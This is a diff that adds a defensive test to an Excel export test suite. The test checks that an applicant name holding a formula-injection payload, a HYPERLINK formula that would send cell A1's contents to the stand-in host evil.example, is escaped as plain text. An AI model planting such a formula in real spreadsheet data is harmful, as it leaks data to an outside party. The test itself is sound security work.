@@ -144,3 +144,15 @@ def test_it_refuses_a_book_without_an_agency(world: Any) -> None:
         tracking_book_xlsx(None, date(2026, 6, 1), date(2026, 6, 30))  # type: ignore[arg-type]
 
     assert error.value.code == "agency_required"
+
+
+def test_the_excel_book_escapes_an_applicant_name_a_spreadsheet_would_run(world: Any) -> None:
+    person = world.citizen_person
+    person.full_name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    person.save(update_fields=["full_name"])
+    world.register(at=T0)
+    sheet = load_workbook(io.BytesIO(tracking_book_xlsx(world.centre, date(2026, 6, 1), date(2026, 6, 30)))).active
+    assert sheet is not None
+    cell = sheet.cell(row=HEADER_ROW + 1, column=4)
+    assert cell.data_type == "s"
+    assert cell.value == "'" + person.full_name
